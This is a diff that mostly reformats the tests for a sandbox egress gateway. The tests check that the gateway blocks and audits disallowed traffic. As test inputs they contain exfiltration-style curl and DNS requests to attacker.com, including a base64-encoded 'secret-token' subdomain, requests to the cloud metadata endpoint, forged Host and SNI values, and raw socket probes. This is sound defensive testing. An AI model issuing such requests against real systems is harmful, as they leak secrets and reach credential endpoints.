@@ -25,7 +25,14 @@ describe('egress gateway: fake internet', { ...requirementsOrSkip(), timeout: 18
 
   before(async () => {
     inet = await startFakeInternet();
-    net = await startSandboxNetwork({ network: networkPolicy(ALLOW, { perSecond: 50, burst: 100 }), executionId: 'exec-attacks', agent: 'attack-tests', audit, config, blockedPollMs: BLOCKED_POLL_MS });
+    net = await startSandboxNetwork({
+      network: networkPolicy(ALLOW, { perSecond: 50, burst: 100 }),
+      executionId: 'exec-attacks',
+      agent: 'attack-tests',
+      audit,
+      config,
+      blockedPollMs: BLOCKED_POLL_MS,
+    });
     ns = net.netnsName;
     proxied = { ...net.env };
   });
@@ -46,7 +53,9 @@ describe('egress gateway: fake internet', { ...requirementsOrSkip(), timeout: 18
       audit
         .find('net.blocked', 'deny')
         .filter((e) => e.actor.execution === 'exec-attacks')
-        .some((e) => (e.payload.destinations as Array<{ address: string; port: number | null }>).some((d) => d.address === address && d.port === port));
+        .some((e) =>
+          (e.payload.destinations as Array<{ address: string; port: number | null }>).some((d) => d.address === address && d.port === port),
+        );
     const end = Date.now() + 3000;
     while (!named() && Date.now() < end) await new Promise((r) => setTimeout(r, 50));
     return named();
@@ -58,7 +67,8 @@ describe('egress gateway: fake internet', { ...requirementsOrSkip(), timeout: 18
     return blockedPackets(protocol) - before;
   };
 
-  const curl = (args: string[], env: Record<string, string> = {}) => inNetns(ns, ['curl', '-sS', '--max-time', '8', '--cacert', inet.caFile, ...args], env);
+  const curl = (args: string[], env: Record<string, string> = {}) =>
+    inNetns(ns, ['curl', '-sS', '--max-time', '8', '--cacert', inet.caFile, ...args], env);
 
   describe('allowed traffic', () => {
     it('reaches an allowed host over HTTPS through the proxy variables (CONNECT)', async () => {
@@ -91,7 +101,12 @@ describe('egress gateway: fake internet', { ...requirementsOrSkip(), timeout: 18
       const r = await curl(['http://api.openai.com/health?x=1'], proxied);
       assert.equal(r.code, 0, r.stderr);
       assert.equal(JSON.parse(r.stdout).tls, false);
-      const ev = audit.find('http.request', 'allow', { mode: 'forward', method: 'GET', url: 'http://api.openai.com/health?x=1', status: 200 });
+      const ev = audit.find('http.request', 'allow', {
+        mode: 'forward',
+        method: 'GET',
+        url: 'http://api.openai.com/health?x=1',
+        status: 200,
+      });
       assert.equal(ev.length, 1);
     });
 
@@ -108,7 +123,7 @@ for handler in (urllib.request.ProxyHandler(), urllib.request.ProxyHandler({})):
       assert.deepEqual(r.stdout.trim().split('\n'), ['api.openai.com', 'api.openai.com']);
     });
 
-    it('allowed traffic leaves no net.blocked event (no noise from the kernel\'s own packets)', async () => {
+    it("allowed traffic leaves no net.blocked event (no noise from the kernel's own packets)", async () => {
       await new Promise((r) => setTimeout(r, 3 * BLOCKED_POLL_MS));
       assert.deepEqual(audit.find('net.blocked', 'deny'), []);
     });
@@ -119,21 +134,36 @@ for handler in (urllib.request.ProxyHandler(), urllib.request.ProxyHandler({})):
       const r = await curl(['-i', 'http://attacker.com/steal?d=secret'], proxied);
       assert.match(r.stdout, /^HTTP\/1\.1 403/);
       assert.match(r.stdout, /x-aegis-reason: net\.denied\.not_in_allowlist/i);
-      assert.equal(audit.find('http.request', 'deny', { reason: 'net.denied.not_in_allowlist', url: 'http://attacker.com/steal?d=secret' }).length, 1);
+      assert.equal(
+        audit.find('http.request', 'deny', { reason: 'net.denied.not_in_allowlist', url: 'http://attacker.com/steal?d=secret' }).length,
+        1,
+      );
     });
 
     it('attacker.com over HTTPS through CONNECT', async () => {
       const r = await curl(['https://attacker.com/'], proxied);
       assert.notEqual(r.code, 0);
       assert.match(r.stderr, /403/);
-      assert.equal(audit.find('net.connect', 'deny', { mode: 'connect', host: 'attacker.com', reason: 'net.denied.not_in_allowlist' }).length, 1);
+      assert.equal(
+        audit.find('net.connect', 'deny', { mode: 'connect', host: 'attacker.com', reason: 'net.denied.not_in_allowlist' }).length,
+        1,
+      );
     });
 
     it('attacker.com through SOCKS5 (remote DNS and local DNS)', async () => {
       const r = await curl(['--socks5-hostname', `${net.gatewayAddress}:1080`, 'https://attacker.com/']);
       assert.notEqual(r.code, 0);
-      assert.equal(audit.find('net.connect', 'deny', { mode: 'socks5', host: 'attacker.com', reason: 'net.denied.not_in_allowlist' }).length, 1);
-      const byIp = await curl(['--socks5', `${net.gatewayAddress}:1080`, '--resolve', 'attacker.com:443:198.51.100.66', 'https://attacker.com/']);
+      assert.equal(
+        audit.find('net.connect', 'deny', { mode: 'socks5', host: 'attacker.com', reason: 'net.denied.not_in_allowlist' }).length,
+        1,
+      );
+      const byIp = await curl([
+        '--socks5',
+        `${net.gatewayAddress}:1080`,
+        '--resolve',
+        'attacker.com:443:198.51.100.66',
+        'https://attacker.com/',
+      ]);
       assert.notEqual(byIp.code, 0);
       assert.equal(audit.find('net.connect', 'deny', { mode: 'socks5', host: '198.51.100.66', reason: 'net.denied.ip_literal' }).length, 1);
     });
@@ -153,16 +183,27 @@ for handler in (urllib.request.ProxyHandler(), urllib.request.ProxyHandler({})):
       assert.equal(audit.find('http.request', 'deny', { mode: 'transparent-http', reason: 'net.denied.ip_literal' }).length, 1);
       const c = await curl(['-k', 'https://198.51.100.66/'], proxied);
       assert.notEqual(c.code, 0);
-      assert.equal(audit.find('net.connect', 'deny', { mode: 'connect', host: '198.51.100.66', reason: 'net.denied.ip_literal' }).length, 1);
+      assert.equal(
+        audit.find('net.connect', 'deny', { mode: 'connect', host: '198.51.100.66', reason: 'net.denied.ip_literal' }).length,
+        1,
+      );
     });
 
     it('by IPv6: dropped and audited (net.blocked ipv6), and a CONNECT to an IPv6 literal is denied', async () => {
       const before = blockedPackets('ipv6');
       const direct = await curl(['-6', '-k', 'https://[2001:db8::66]/']);
       assert.notEqual(direct.code, 0);
-      const py = await inNetns(ns, ['python3', '-c', 'import socket; s=socket.socket(socket.AF_INET6); s.settimeout(3); s.connect(("2001:db8::66", 443))']);
+      const py = await inNetns(ns, [
+        'python3',
+        '-c',
+        'import socket; s=socket.socket(socket.AF_INET6); s.settimeout(3); s.connect(("2001:db8::66", 443))',
+      ]);
       assert.notEqual(py.code, 0);
-      const ping6 = await inNetns(ns, ['python3', '-c', 'import socket; s=socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6); s.settimeout(2); s.sendto(b"\\x80\\x00\\x00\\x00\\x00\\x01\\x00\\x01", ("2001:db8::66", 0)); s.recv(100)']);
+      const ping6 = await inNetns(ns, [
+        'python3',
+        '-c',
+        'import socket; s=socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6); s.settimeout(2); s.sendto(b"\\x80\\x00\\x00\\x00\\x00\\x01\\x00\\x01", ("2001:db8::66", 0)); s.recv(100)',
+      ]);
       assert.notEqual(ping6.code, 0);
       assert.ok((await blockedSince('ipv6', before)) >= 3, 'curl, the Python connect and the ping each left at least one dropped packet');
       assert.ok(await blockedTo('2001:db8::66', 443), 'the event names [2001:db8::66]:443');
@@ -181,7 +222,10 @@ for handler in (urllib.request.ProxyHandler(), urllib.request.ProxyHandler({})):
       const txtAllowed = await inNetns(ns, ['dig', '+tries=1', '+time=3', 'TXT', 'api.openai.com']);
       assert.match(txtAllowed.stdout, /status: REFUSED/);
       assert.equal(audit.find('net.dns', 'deny', { name: 'attacker.com', type: 'TXT' }).length, 1);
-      assert.equal(audit.find('net.dns', 'deny', { name: 'c2VjcmV0LXRva2Vu.attacker.com', reason: 'net.denied.not_in_allowlist' }).length, 1);
+      assert.equal(
+        audit.find('net.dns', 'deny', { name: 'c2VjcmV0LXRva2Vu.attacker.com', reason: 'net.denied.not_in_allowlist' }).length,
+        1,
+      );
       assert.equal(audit.find('net.dns', 'deny', { name: 'api.openai.com', type: 'TXT', reason: 'gateway.dns_type_refused' }).length, 1);
     });
 
@@ -200,10 +244,23 @@ except (ssl.SSLError, OSError) as e:
 `;
       const r = await inNetns(ns, ['python3', '-c', script, net.gatewayAddress, inet.caFile]);
       assert.match(r.stdout, /^refused/, r.stdout + r.stderr);
-      assert.equal((await audit.eventually('net.connect', 'deny', { mode: 'connect', host: 'api.openai.com', sni: 'attacker.com', reason: 'gateway.sni_mismatch' })).length, 1);
+      assert.equal(
+        (
+          await audit.eventually('net.connect', 'deny', {
+            mode: 'connect',
+            host: 'api.openai.com',
+            sni: 'attacker.com',
+            reason: 'gateway.sni_mismatch',
+          })
+        ).length,
+        1,
+      );
       const t = await curl(['--resolve', 'attacker.com:443:198.51.100.10', 'https://attacker.com/']);
       assert.notEqual(t.code, 0);
-      assert.equal(audit.find('net.connect', 'deny', { mode: 'transparent-tls', sni: 'attacker.com', reason: 'net.denied.not_in_allowlist' }).length, 1);
+      assert.equal(
+        audit.find('net.connect', 'deny', { mode: 'transparent-tls', sni: 'attacker.com', reason: 'net.denied.not_in_allowlist' }).length,
+        1,
+      );
     });
 
     it('a forged Host header, through the proxy and transparently', async () => {
@@ -212,8 +269,15 @@ except (ssl.SSLError, OSError) as e:
       assert.equal(audit.find('http.request', 'deny', { mode: 'forward', reason: 'gateway.host_mismatch' }).length, 1);
       const t = await curl(['-i', '-H', 'Host: attacker.com', 'http://api.openai.com/']);
       assert.match(t.stdout, /^HTTP\/1\.1 403/);
-      assert.equal(audit.find('http.request', 'deny', { mode: 'transparent-http', url: 'http://attacker.com/', reason: 'net.denied.not_in_allowlist' }).length, 1);
-      assert.equal(inet.requestsSeen().some((q) => q.host === 'attacker.com'), false);
+      assert.equal(
+        audit.find('http.request', 'deny', { mode: 'transparent-http', url: 'http://attacker.com/', reason: 'net.denied.not_in_allowlist' })
+          .length,
+        1,
+      );
+      assert.equal(
+        inet.requestsSeen().some((q) => q.host === 'attacker.com'),
+        false,
+      );
     });
 
     it('UDP to an outside resolver is answered by the gateway (REFUSED); other UDP is dropped', async () => {
@@ -232,7 +296,10 @@ except (ssl.SSLError, OSError) as e:
       assert.match(direct.stdout, /^HTTP\/1\.1 403/);
       const viaProxy = await curl(['-i', 'http://169.254.169.254/latest/meta-data/'], proxied);
       assert.match(viaProxy.stdout, /^HTTP\/1\.1 403/);
-      assert.equal(audit.find('http.request', 'deny', { reason: 'net.denied.special_range', url: 'http://169.254.169.254/latest/meta-data/' }).length, 2);
+      assert.equal(
+        audit.find('http.request', 'deny', { reason: 'net.denied.special_range', url: 'http://169.254.169.254/latest/meta-data/' }).length,
+        2,
+      );
       const rebind = await inNetns(ns, ['dig', '+tries=1', '+time=3', 'A', 'metadata.allowed.test']);
       assert.match(rebind.stdout, /status: REFUSED/);
       assert.equal(audit.find('net.dns', 'deny', { name: 'metadata.allowed.test', reason: 'net.denied.special_range' }).length, 1);
@@ -245,7 +312,9 @@ except (ssl.SSLError, OSError) as e:
       assert.match(r.stdout, /^HTTP\/1\.1 403/);
       const t = await curl(['-i', 'http://2852039166/latest/meta-data/']);
       assert.match(t.stdout, /^HTTP\/1\.1 403/);
-      const denied = audit.find('http.request', 'deny', { reason: 'net.denied.special_range' }).filter((e) => String(e.payload.url).includes('/latest/meta-data/'));
+      const denied = audit
+        .find('http.request', 'deny', { reason: 'net.denied.special_range' })
+        .filter((e) => String(e.payload.url).includes('/latest/meta-data/'));
       assert.equal(denied.length, 4); // 2 from the dotted spelling above, 2 from the decimal one
     });
 
@@ -254,7 +323,11 @@ except (ssl.SSLError, OSError) as e:
       const icmpBefore = blockedPackets('icmp');
       const tcp = await inNetns(ns, ['python3', '-c', 'import socket; socket.create_connection(("198.51.100.66", 22), timeout=2)']);
       assert.notEqual(tcp.code, 0);
-      const ping = await inNetns(ns, ['python3', '-c', 'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); s.settimeout(2); s.sendto(b"\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00", ("198.51.100.66", 0)); s.recv(100)']);
+      const ping = await inNetns(ns, [
+        'python3',
+        '-c',
+        'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); s.settimeout(2); s.sendto(b"\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00", ("198.51.100.66", 0)); s.recv(100)',
+      ]);
       assert.notEqual(ping.code, 0);
       assert.ok((await blockedSince('tcp', tcpBefore)) >= 1, 'the SYN to port 22');
       assert.ok((await blockedSince('icmp', icmpBefore)) >= 1, 'the echo request');
@@ -342,16 +415,27 @@ except OSError:
 
   describe('rate limit', () => {
     it('excess connections get 429 and are audited', async () => {
-      const limited = await startSandboxNetwork({ network: networkPolicy(ALLOW, { perSecond: 1, burst: 3 }), executionId: 'exec-rate', audit, config });
+      const limited = await startSandboxNetwork({
+        network: networkPolicy(ALLOW, { perSecond: 1, burst: 3 }),
+        executionId: 'exec-rate',
+        audit,
+        config,
+      });
       try {
         const codes: string[] = [];
         for (let i = 0; i < 6; i++) {
-          const r = await inNetns(limited.netnsName, ['curl', '-s', '-o', '/dev/null', '-w', '%{http_code}', '--max-time', '5', 'http://api.openai.com/'], limited.env);
+          const r = await inNetns(
+            limited.netnsName,
+            ['curl', '-s', '-o', '/dev/null', '-w', '%{http_code}', '--max-time', '5', 'http://api.openai.com/'],
+            limited.env,
+          );
           codes.push(r.stdout);
         }
         assert.deepEqual(codes.slice(0, 3), ['200', '200', '200']);
         assert.ok(codes.slice(3).includes('429'), codes.join(','));
-        assert.ok(audit.events.some((e) => e.actor.execution === 'exec-rate' && e.decision === 'deny' && e.reason === 'gateway.rate_limited'));
+        assert.ok(
+          audit.events.some((e) => e.actor.execution === 'exec-rate' && e.decision === 'deny' && e.reason === 'gateway.rate_limited'),
+        );
       } finally {
         await limited.close();
       }
@@ -360,12 +444,37 @@ except OSError:
 
   describe('byte quota', () => {
     it('a download past the quota is cut, later requests get 429, both audited', async () => {
-      const q = await startSandboxNetwork({ network: networkPolicy(ALLOW, { perSecond: 50, burst: 100 }, 1_000_000), executionId: 'exec-quota', audit, config });
+      const q = await startSandboxNetwork({
+        network: networkPolicy(ALLOW, { perSecond: 50, burst: 100 }, 1_000_000),
+        executionId: 'exec-quota',
+        audit,
+        config,
+      });
       try {
-        const big = await inNetns(q.netnsName, ['curl', '-sS', '-o', '/dev/null', '-w', '%{size_download}', '--max-time', '8', '--cacert', inet.caFile, 'https://api.openai.com/bytes/5000000'], q.env);
+        const big = await inNetns(
+          q.netnsName,
+          [
+            'curl',
+            '-sS',
+            '-o',
+            '/dev/null',
+            '-w',
+            '%{size_download}',
+            '--max-time',
+            '8',
+            '--cacert',
+            inet.caFile,
+            'https://api.openai.com/bytes/5000000',
+          ],
+          q.env,
+        );
         assert.notEqual(big.code, 0);
         assert.ok(Number(big.stdout) < 2_000_000, big.stdout);
-        const next = await inNetns(q.netnsName, ['curl', '-s', '-o', '/dev/null', '-w', '%{http_code}', '--max-time', '5', 'http://api.openai.com/'], q.env);
+        const next = await inNetns(
+          q.netnsName,
+          ['curl', '-s', '-o', '/dev/null', '-w', '%{http_code}', '--max-time', '5', 'http://api.openai.com/'],
+          q.env,
+        );
         assert.equal(next.stdout, '429');
         const quota = audit.events.filter((e) => e.actor.execution === 'exec-quota' && e.reason === 'gateway.quota_exceeded');
         assert.deepEqual(new Set(quota.map((e) => e.action)), new Set(['net.connect', 'http.request']));
@@ -377,8 +486,18 @@ except OSError:
 
   describe('teardown', () => {
     it('close() reports the drops since the last reading before it removes the tables', async () => {
-      const n = await startSandboxNetwork({ network: networkPolicy([]), executionId: 'exec-final', audit, config, blockedPollMs: 3_600_000 });
-      const tcp = await inNetns(n.netnsName, ['python3', '-c', 'import socket; socket.create_connection(("198.51.100.66", 25), timeout=1)']);
+      const n = await startSandboxNetwork({
+        network: networkPolicy([]),
+        executionId: 'exec-final',
+        audit,
+        config,
+        blockedPollMs: 3_600_000,
+      });
+      const tcp = await inNetns(n.netnsName, [
+        'python3',
+        '-c',
+        'import socket; socket.create_connection(("198.51.100.66", 25), timeout=1)',
+      ]);
       assert.notEqual(tcp.code, 0);
       assert.equal(blockedPackets('tcp', 'exec-final'), 0, 'not read yet: the poll interval is an hour');
       await n.close();
@@ -388,8 +507,14 @@ except OSError:
     it('a sandbox subnet that overlaps a host route is refused before anything is built (subnet_conflict)', async () => {
       // 198.51.100.0/24 is routed to the fake internet right now: a sandbox there would shadow it.
       await assert.rejects(
-        startSandboxNetwork({ network: networkPolicy([]), executionId: 'exec-conflict', audit, config: { ...config, sandboxSubnet: '198.51.100.0/24' } }),
-        (e: unknown) => e instanceof GatewayError && e.code === 'gateway.subnet_conflict' && /198\.51\.100\.0\/24 dev agtinet0h/.test(e.message),
+        startSandboxNetwork({
+          network: networkPolicy([]),
+          executionId: 'exec-conflict',
+          audit,
+          config: { ...config, sandboxSubnet: '198.51.100.0/24' },
+        }),
+        (e: unknown) =>
+          e instanceof GatewayError && e.code === 'gateway.subnet_conflict' && /198\.51\.100\.0\/24 dev agtinet0h/.test(e.message),
       );
       const slots = await readdir(`${config.stateDir}/net-slots`);
       assert.deepEqual(slots.sort(), [String(net.plan.slot)], 'no slot was claimed for the refused sandbox');
